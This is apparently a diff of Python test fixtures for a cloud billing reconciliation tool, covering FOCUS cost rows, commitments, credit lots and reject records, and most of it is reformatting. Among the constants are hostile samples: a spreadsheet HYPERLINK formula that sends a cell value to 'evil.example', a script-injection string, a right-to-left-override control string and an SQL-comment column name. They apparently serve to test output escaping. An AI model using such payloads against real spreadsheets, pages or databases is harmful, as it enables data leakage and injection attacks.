@@ -24,7 +24,7 @@ DAY = timedelta(days=1)
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 SCRIPT = "<script>document.title='pwned'</script><img src=x onerror=\"document.title='pwned'\">"
-CONTROL = "tool\x1b[31m\x00red\x07‮evil"
+CONTROL = "tool\x1b[31m\x00red\x07\u202eevil"
 LONG = "arn:cloud:sagemaker:eu-west-1:123456789012:endpoint/" + "inference-endpoint-" * 30 + "end"
 
 PLAN = "arn:cloud:savingsplans::123456789012:savingsplan/5f8e1c2a-77aa-4c1b-9a55-0d1f2e3a4b5c"
@@ -37,7 +37,13 @@ TPU = "tpu-v6e-sales-contract"
 AGREEMENT = "enterprise-agreement-2026"
 UNKNOWN_PLAN = "plan-without-unused-rows"
 
-FOCUS_1_4 = """AllocatedMethodDetails AllocatedMethodId AllocatedResourceId AllocatedResourceName
+
+def words(text: str) -> list[str]:
+    return text.split()
+
+
+FOCUS_1_4 = words(
+    """AllocatedMethodDetails AllocatedMethodId AllocatedResourceId AllocatedResourceName
 AllocatedTags AvailabilityZone BilledCost BillingAccountId BillingAccountName BillingAccountType
 BillingCurrency BillingPeriodEnd BillingPeriodStart CapacityReservationId CapacityReservationStatus
 ChargeCategory ChargeClass ChargeDescription ChargeFrequency ChargePeriodEnd ChargePeriodStart
@@ -49,13 +55,17 @@ ListCost ListUnitPrice PricingCategory PricingCurrency PricingCurrencyContracted
 PricingCurrencyEffectiveCost PricingCurrencyListUnitPrice PricingQuantity PricingUnit RegionId
 RegionName ResourceId ResourceName ResourceType ServiceCategory ServiceName ServiceProviderName
 ServiceSubcategory SkuId SkuMeter SkuPriceDetails SkuPriceId SubAccountId SubAccountName
-SubAccountType Tags""".split()
-FOCUS_DECIMALS = """BilledCost ContractedCost EffectiveCost ListCost PricingQuantity
+SubAccountType Tags"""
+)
+FOCUS_DECIMALS = words(
+    """BilledCost ContractedCost EffectiveCost ListCost PricingQuantity
 ConsumedQuantity CommitmentDiscountQuantity ContractedUnitPrice ListUnitPrice
 PricingCurrencyEffectiveCost PricingCurrencyContractedUnitPrice
-PricingCurrencyListUnitPrice""".split()
-FOCUS_INSTANTS = "BillingPeriodStart BillingPeriodEnd ChargePeriodStart ChargePeriodEnd".split()
-COMMITMENT_1_4 = """BillingCurrency ContractCommitmentApplicability
+PricingCurrencyListUnitPrice"""
+)
+FOCUS_INSTANTS = words("BillingPeriodStart BillingPeriodEnd ChargePeriodStart ChargePeriodEnd")
+COMMITMENT_1_4 = words(
+    """BillingCurrency ContractCommitmentApplicability
 ContractCommitmentBenefitCategory ContractCommitmentCategory ContractCommitmentCost
 ContractCommitmentCreated ContractCommitmentDescription ContractCommitmentDiscountPercentage
 ContractCommitmentDurationType ContractCommitmentFulfillmentInterval ContractCommitmentId
@@ -64,7 +74,8 @@ ContractCommitmentOfferCategory ContractCommitmentPaymentInterval ContractCommit
 ContractCommitmentPaymentUpfrontPercentage ContractCommitmentPeriodEnd
 ContractCommitmentPeriodStart ContractCommitmentQuantity ContractCommitmentType
 ContractCommitmentUnit ContractId ContractPeriodEnd ContractPeriodStart InvoiceIssuerName
-PricingCurrency PricingCurrencyContractCommitmentCost ServiceProviderName""".split()
+PricingCurrency PricingCurrencyContractCommitmentCost ServiceProviderName"""
+)
 
 
 def dec(value: str | int) -> Decimal:
@@ -81,7 +92,9 @@ def hourly_share(hour: int) -> Decimal:
     return dec("0.90") if of_day < 6 else dec("1")
 
 
-def hourly(commitment: str, provider: str, rate: str, currency: str, unit: str) -> list[dict[str, Any]]:
+def hourly(
+    commitment: str, provider: str, rate: str, currency: str, unit: str
+) -> list[dict[str, Any]]:
     rows = []
     for hour in range(31 * 24):
         used = dec(rate) * hourly_share(hour)
@@ -203,22 +216,59 @@ def commitment_rows(utilization: list[dict[str, Any]]) -> list[dict[str, Any]]:
     )
     term = {"provisional": True, "status": "complete", "expired": dec(0), "category": "Spend"}
     rows += [
-        {**term, "commitment_id": LOT, "provider": "oci", "layer": "funding", "unit": "USD",
-         "currency": "USD", "opening": dec("61000"), "drawn": dec("18650.25"),
-         "remaining": dec("42349.75"), "expires_at": datetime(2026, 12, 31, tzinfo=UTC)},
-        {**term, "commitment_id": TPU, "provider": "gcp", "layer": "funding", "unit": "Credits",
-         "currency": "USD", "opening": dec("500000"), "drawn": dec("120000.5"),
-         "remaining": dec("379999.5"), "expires_at": datetime(2027, 6, 30, tzinfo=UTC)},
-        {**term, "commitment_id": AGREEMENT, "provider": "aws", "layer": "agreement",
-         "unit": "USD", "currency": "USD", "drawn": dec("91234.56"),
-         "expires_at": datetime(2027, 1, 1, tzinfo=UTC),
-         "reason": "the contract states no committed figure"},
+        {
+            **term,
+            "commitment_id": LOT,
+            "provider": "oci",
+            "layer": "funding",
+            "unit": "USD",
+            "currency": "USD",
+            "opening": dec("61000"),
+            "drawn": dec("18650.25"),
+            "remaining": dec("42349.75"),
+            "expires_at": datetime(2026, 12, 31, tzinfo=UTC),
+        },
+        {
+            **term,
+            "commitment_id": TPU,
+            "provider": "gcp",
+            "layer": "funding",
+            "unit": "Credits",
+            "currency": "USD",
+            "opening": dec("500000"),
+            "drawn": dec("120000.5"),
+            "remaining": dec("379999.5"),
+            "expires_at": datetime(2027, 6, 30, tzinfo=UTC),
+        },
+        {
+            **term,
+            "commitment_id": AGREEMENT,
+            "provider": "aws",
+            "layer": "agreement",
+            "unit": "USD",
+            "currency": "USD",
+            "drawn": dec("91234.56"),
+            "expires_at": datetime(2027, 1, 1, tzinfo=UTC),
+            "reason": "the contract states no committed figure",
+        },
     ]
     return rows
 
 
-CLASSES = ("missing_in_usage", "quantity", "missing_in_billing", "duplicate", "timing",
-           "commitment", "price", "balance", "invoice", "fx", "rounding", "restatement")
+CLASSES = (
+    "missing_in_usage",
+    "quantity",
+    "missing_in_billing",
+    "duplicate",
+    "timing",
+    "commitment",
+    "price",
+    "balance",
+    "invoice",
+    "fx",
+    "rounding",
+    "restatement",
+)
 
 
 def break_rows() -> list[dict[str, Any]]:
@@ -284,8 +334,15 @@ def allocation_rows() -> list[dict[str, Any]]:
 
 
 def unattributed_rows() -> list[dict[str, Any]]:
-    usd = {"idle": "1210.40", "missing_in_usage": "3120.55", "tax": "1900.00", "credit": "-250.00",
-           "support": "400.00", "no_rule": "88.123456", "rounding": "0.004"}
+    usd = {
+        "idle": "1210.40",
+        "missing_in_usage": "3120.55",
+        "tax": "1900.00",
+        "credit": "-250.00",
+        "support": "400.00",
+        "no_rule": "88.123456",
+        "rounding": "0.004",
+    }
     eur = {"unverified_capacity": "742.10", "tax": "310.20", "marketplace": "65.00"}
     return [
         {"currency": code, "reason": reason, "cost": dec(cost), "billed_cost": dec(cost), "rows": 7}
@@ -302,12 +359,22 @@ def identity_rows(tables: dict[str, list[dict[str, Any]]]) -> list[dict[str, Any
             (r["cost"] for r in tables["unattributed_by_reason"] if r["currency"] == code), dec(0)
         )
         unused = sum(
-            (r["unused_cost"] or dec(0) for r in tables["commitments"]
-             if r["currency"] == code and r.get("unused_cost") is not None), dec(0)
+            (
+                r["unused_cost"] or dec(0)
+                for r in tables["commitments"]
+                if r["currency"] == code and r.get("unused_cost") is not None
+            ),
+            dec(0),
         )
         rows.append(
-            {"currency": code, "billed": allocated + unused + unattributed, "allocated": allocated,
-             "unused": unused, "unattributed": unattributed, "difference": dec(0)}
+            {
+                "currency": code,
+                "billed": allocated + unused + unattributed,
+                "allocated": allocated,
+                "unused": unused,
+                "unattributed": unattributed,
+                "difference": dec(0),
+            }
         )
     return rows
 
@@ -317,49 +384,114 @@ def burn_down_rows() -> list[dict[str, Any]]:
     for day in range(31):
         at = START + day * DAY
         share = sum(hourly_share(day * 24 + hour) for hour in range(24))
-        for name, provider, rate, unit in ((PLAN, "aws", "10", "USD"),
-                                           (RESERVATION, "azure", "8", "GPU-Hours"),
-                                           (SPEND, "gcp", "4.125", "EUR"),
-                                           (PTU, "azure", "300", "Unit-Hours")):
+        for name, provider, rate, unit in (
+            (PLAN, "aws", "10", "USD"),
+            (RESERVATION, "azure", "8", "GPU-Hours"),
+            (SPEND, "gcp", "4.125", "EUR"),
+            (PTU, "azure", "300", "Unit-Hours"),
+        ):
             used = dec(rate) * share
-            rows.append({"commitment_id": name, "provider": provider, "day": at, "unit": unit,
-                         "committed_quantity": dec(rate) * 24, "used_quantity": used,
-                         "unused_quantity": dec(rate) * 24 - used})
-        rows.append({"commitment_id": LOT, "provider": "oci", "day": at, "unit": "USD",
-                     "used_quantity": dec(600), "remaining": dec(61000) - 600 * (day + 1)})
-        rows.append({"commitment_id": TPU, "provider": "gcp", "day": at, "unit": "Credits",
-                     "used_quantity": dec(3871), "remaining": dec(500000) - 3871 * (day + 1)})
+            rows.append(
+                {
+                    "commitment_id": name,
+                    "provider": provider,
+                    "day": at,
+                    "unit": unit,
+                    "committed_quantity": dec(rate) * 24,
+                    "used_quantity": used,
+                    "unused_quantity": dec(rate) * 24 - used,
+                }
+            )
+        rows.append(
+            {
+                "commitment_id": LOT,
+                "provider": "oci",
+                "day": at,
+                "unit": "USD",
+                "used_quantity": dec(600),
+                "remaining": dec(61000) - 600 * (day + 1),
+            }
+        )
+        rows.append(
+            {
+                "commitment_id": TPU,
+                "provider": "gcp",
+                "day": at,
+                "unit": "Credits",
+                "used_quantity": dec(3871),
+                "remaining": dec(500000) - 3871 * (day + 1),
+            }
+        )
     return rows
 
 
 def credit_rows() -> list[dict[str, Any]]:
     return [
-        {"lot_id": LOT, "commitment_id": LOT, "provider": "oci", "unit": "USD",
-         "granted": dec(120000), "drawn": dec("77650.25"), "expired": dec(0),
-         "remaining": dec("42349.75"), "expires_at": datetime(2026, 12, 31, tzinfo=UTC),
-         "currency": "USD"},
-        {"lot_id": TPU, "commitment_id": TPU, "provider": "gcp", "unit": "Credits",
-         "granted": dec(600000), "drawn": dec("220000.5"), "expired": dec(0),
-         "remaining": dec("379999.5"), "expires_at": datetime(2027, 6, 30, tzinfo=UTC),
-         "compute_unit": "TPU-Chip-Hours", "compute_units_per_credit": dec("0.5"),
-         "cost_per_credit": dec("1.35"), "currency": "USD"},
-        {"lot_id": "promo-2025", "provider": "gcp", "unit": "EUR", "granted": dec(5000),
-         "expires_at": datetime(2026, 11, 30, tzinfo=UTC), "currency": "EUR"},
+        {
+            "lot_id": LOT,
+            "commitment_id": LOT,
+            "provider": "oci",
+            "unit": "USD",
+            "granted": dec(120000),
+            "drawn": dec("77650.25"),
+            "expired": dec(0),
+            "remaining": dec("42349.75"),
+            "expires_at": datetime(2026, 12, 31, tzinfo=UTC),
+            "currency": "USD",
+        },
+        {
+            "lot_id": TPU,
+            "commitment_id": TPU,
+            "provider": "gcp",
+            "unit": "Credits",
+            "granted": dec(600000),
+            "drawn": dec("220000.5"),
+            "expired": dec(0),
+            "remaining": dec("379999.5"),
+            "expires_at": datetime(2027, 6, 30, tzinfo=UTC),
+            "compute_unit": "TPU-Chip-Hours",
+            "compute_units_per_credit": dec("0.5"),
+            "cost_per_credit": dec("1.35"),
+            "currency": "USD",
+        },
+        {
+            "lot_id": "promo-2025",
+            "provider": "gcp",
+            "unit": "EUR",
+            "granted": dec(5000),
+            "expires_at": datetime(2026, 11, 30, tzinfo=UTC),
+            "currency": "EUR",
+        },
     ]
 
 
 def source_rows() -> list[dict[str, Any]]:
-    files = [("bills/aws-2026-10.parquet", "charges", "focus-1.2", 120000, 3),
-             ("bills/azure-2026-10.csv.gz", "charges", "focus-1.0", 48211, 0),
-             ("bills/gcp-2026-10.csv", "charges", "focus-1.4", 30117, 1412),
-             ("contracts.csv", "commitments", "focus-commitment-1.4", 8, 0),
-             ("spans/2026-10/" + "very-long-folder-name/" * 6 + "spans.jsonl.zst", "usage",
-              "otlp-traces", 2405118, 12)]
+    files = [
+        ("bills/aws-2026-10.parquet", "charges", "focus-1.2", 120000, 3),
+        ("bills/azure-2026-10.csv.gz", "charges", "focus-1.0", 48211, 0),
+        ("bills/gcp-2026-10.csv", "charges", "focus-1.4", 30117, 1412),
+        ("contracts.csv", "commitments", "focus-commitment-1.4", 8, 0),
+        (
+            "spans/2026-10/" + "very-long-folder-name/" * 6 + "spans.jsonl.zst",
+            "usage",
+            "otlp-traces",
+            2405118,
+            12,
+        ),
+    ]
     return [
-        {"source_id": number, "source": source, "kind": kind, "format": form,
-         "sha256": f"{number:x}" * 64, "size_bytes": 1024 * rows, "rows_in": rows,
-         "accepted": rows - rejected, "rejected": rejected,
-         "note": "read as daily bill" if number == 2 else None}
+        {
+            "source_id": number,
+            "source": source,
+            "kind": kind,
+            "format": form,
+            "sha256": f"{number:x}" * 64,
+            "size_bytes": 1024 * rows,
+            "rows_in": rows,
+            "accepted": rows - rejected,
+            "rejected": rejected,
+            "note": "read as daily bill" if number == 2 else None,
+        }
         for number, (source, kind, form, rows, rejected) in enumerate(files, start=1)
     ]
 
@@ -370,11 +502,15 @@ def reject_rows(sources: list[dict[str, Any]]) -> list[dict[str, Any]]:
         for index in range(source["rejected"]):
             hostile = index == 0
             rows.append(
-                {"source_id": source["source_id"], "source": source["source"],
-                 "row_number": 5 + index * 3, "column": SCRIPT if hostile else "EffectiveCost",
-                 "reason": "more than 18 decimals" if index % 2 else "not a number",
-                 "value": FORMULA if hostile else "0.1234567890123456789",
-                 "currency": "USD" if index % 2 else None}
+                {
+                    "source_id": source["source_id"],
+                    "source": source["source"],
+                    "row_number": 5 + index * 3,
+                    "column": SCRIPT if hostile else "EffectiveCost",
+                    "reason": "more than 18 decimals" if index % 2 else "not a number",
+                    "value": FORMULA if hostile else "0.1234567890123456789",
+                    "currency": "USD" if index % 2 else None,
+                }
             )
     return rows
 
@@ -384,39 +520,82 @@ def tables() -> dict[str, list[dict[str, Any]]]:
     made["commitments"] = commitment_rows(made["utilization"])
     made["breaks"] = break_rows()
     made["pending"] = [
-        {"provider": "gcp", "account_id": "p-1", "resource_id": "endpoint/e3", "meter": "gpu",
-         "period_start": END - (index + 1) * HOUR, "period_end": END - index * HOUR,
-         "expected": dec("1"), "unit": "GPU-Hours",
-         "amount": None if index == 4 else dec("4.00"), "currency": "USD",
-         "expected_by": END + DAY * 3 - index * HOUR, "rows_metered": 12}
+        {
+            "provider": "gcp",
+            "account_id": "p-1",
+            "resource_id": "endpoint/e3",
+            "meter": "gpu",
+            "period_start": END - (index + 1) * HOUR,
+            "period_end": END - index * HOUR,
+            "expected": dec("1"),
+            "unit": "GPU-Hours",
+            "amount": None if index == 4 else dec("4.00"),
+            "currency": "USD",
+            "expected_by": END + DAY * 3 - index * HOUR,
+            "rows_metered": 12,
+        }
         for index in range(14)
     ]
     made["allocations"] = allocation_rows()
     made["credits"] = credit_rows()
     made["unattributed_by_reason"] = unattributed_rows()
     made["identity"] = identity_rows(made)
+    made["billed_identity"] = [
+        {
+            "currency": code,
+            "billed": dec("900.5"),
+            "compared": dec("800.25"),
+            "unused": dec(0),
+            "not_compared": dec("100.25"),
+            "difference": dec(0),
+        }
+        for code in ("EUR", "USD")
+    ]
+    made["straddling"] = [
+        {
+            "source_id": 2,
+            "source_row": 17,
+            "period_start": END - 2 * HOUR,
+            "period_end": END + HOUR,
+            "currency": "EUR",
+            "effective_cost": dec(3),
+            "effective_cost_in_period": dec(2),
+        }
+    ]
     made["sources"] = source_rows()
     made["rejects"] = reject_rows(made["sources"])
     made["control_totals"] = [
-        {"source": row["source"], "kind": row["kind"], "rows_in": row["rows_in"],
-         "accepted": row["accepted"], "rejected": row["rejected"],
-         "currency": ("USD", "EUR", "EUR", None, None)[index],
-         "billed_cost": dec("43210.987654321") if index < 3 else None,
-         "effective_cost": dec("45678.000000000000000001") if index < 3 else None}
+        {
+            "source": row["source"],
+            "kind": row["kind"],
+            "rows_in": row["rows_in"],
+            "accepted": row["accepted"],
+            "rejected": row["rejected"],
+            "currency": ("USD", "EUR", "EUR", None, None)[index],
+            "billed_cost": dec("43210.987654321") if index < 3 else None,
+            "effective_cost": dec("45678.000000000000000001") if index < 3 else None,
+        }
         for index, row in enumerate(made["sources"])
     ]
     made["buckets"] = [
         {"side": side, "bucket": bucket, "reason": reason, "rows": rows}
         for side, bucket, reason, rows in (
-            ("billed", "matched", None, 150000), ("billed", "break", "missing_in_usage", 812),
-            ("billed", "out_of_scope", "tax", 40101), ("metered", "matched", None, 2400000),
-            ("metered", "pending", None, 14), ("metered", "break", "missing_in_billing", 5104))
+            ("billed", "matched", None, 150000),
+            ("billed", "break", "missing_in_usage", 812),
+            ("billed", "out_of_scope", "tax", 40101),
+            ("metered", "matched", None, 2400000),
+            ("metered", "pending", None, 14),
+            ("metered", "break", "missing_in_billing", 5104),
+        )
     ]
     made["burn_down"] = burn_down_rows()
     made["notes"] = [
-        {"code": "utilization_unknown", "subject": UNKNOWN_PLAN,
-         "text": "Its four Used rows carry no quantity and there are no Unused rows.",
-         "remedy": "Ask for an export of FOCUS 1.1 or later."},
+        {
+            "code": "utilization_unknown",
+            "subject": UNKNOWN_PLAN,
+            "text": "Its four Used rows carry no quantity and there are no Unused rows.",
+            "remedy": "Ask for an export of FOCUS 1.1 or later.",
+        },
         {"code": "split_rows", "subject": SCRIPT, "text": CONTROL, "remedy": FORMULA},
     ]
     return made
@@ -433,23 +612,40 @@ def charges_schema() -> pa.Schema:
         return schema.INSTANT if name in FOCUS_INSTANTS else schema.TEXT
 
     fields = [pa.field(name, kind(name)) for name in FOCUS_1_4]
-    fields += [pa.field("x_Provider", schema.TEXT), pa.field("x_PublisherName", schema.TEXT),
-               pa.field("x_SourceId", pa.int32()), pa.field("x_SourceRow", pa.int64()),
-               pa.field("x_ChargeId", pa.int64()), pa.field('x_odd "name"; --', schema.TEXT)]
+    fields += [
+        pa.field("x_Provider", schema.TEXT),
+        pa.field("x_PublisherName", schema.TEXT),
+        pa.field("x_SourceId", pa.int32()),
+        pa.field("x_SourceRow", pa.int64()),
+        pa.field("x_ChargeId", pa.int64()),
+        pa.field('x_odd "name"; --', schema.TEXT),
+    ]
     return pa.schema(fields)
 
 
 def charges() -> Dataset:
     rows = [
-        {"BillingCurrency": "USD", "BilledCost": dec("1.5"), "EffectiveCost": dec("1.25"),
-         "ListCost": dec("2"), "ChargeCategory": "Usage", "ServiceProviderName": "Example Cloud",
-         "ChargePeriodStart": START + index * HOUR, "ChargePeriodEnd": START + (index + 1) * HOUR,
-         "x_Provider": "example", "x_SourceId": 1, "x_SourceRow": index + 1,
-         "x_ChargeId": index + 1, 'x_odd "name"; --': FORMULA}
+        {
+            "BillingCurrency": "USD",
+            "BilledCost": dec("1.5"),
+            "EffectiveCost": dec("1.25"),
+            "ListCost": dec("2"),
+            "ChargeCategory": "Usage",
+            "ServiceProviderName": "Example Cloud",
+            "ChargePeriodStart": START + index * HOUR,
+            "ChargePeriodEnd": START + (index + 1) * HOUR,
+            "x_Provider": "example",
+            "x_SourceId": 1,
+            "x_SourceRow": index + 1,
+            "x_ChargeId": index + 1,
+            'x_odd "name"; --': FORMULA,
+        }
         for index in range(5)
     ]
     empty = table_of("rejects", [])
-    return Dataset("charges", Table.from_rows(charges_schema(), rows), table_of("sources", []), empty)
+    return Dataset(
+        "charges", Table.from_rows(charges_schema(), rows), table_of("sources", []), empty
+    )
 
 
 def contracts() -> Dataset:
@@ -461,9 +657,17 @@ def contracts() -> Dataset:
 
     fields = [pa.field(name, kind(name)) for name in COMMITMENT_1_4]
     fields += [pa.field("x_Provider", schema.TEXT), pa.field("x_Layer", schema.TEXT)]
-    rows = [{"ContractId": "C-1", "ContractCommitmentId": PLAN, "BillingCurrency": "USD",
-             "ContractCommitmentQuantity": dec(10), "ContractCommitmentPeriodStart": START,
-             "x_Layer": "benefit", "x_Provider": "example"}]
+    rows = [
+        {
+            "ContractId": "C-1",
+            "ContractCommitmentId": PLAN,
+            "BillingCurrency": "USD",
+            "ContractCommitmentQuantity": dec(10),
+            "ContractCommitmentPeriodStart": START,
+            "x_Layer": "benefit",
+            "x_Provider": "example",
+        }
+    ]
     table = Table.from_rows(pa.schema(fields), rows)
     return Dataset("commitments", table, table_of("sources", []), table_of("rejects", []))
 
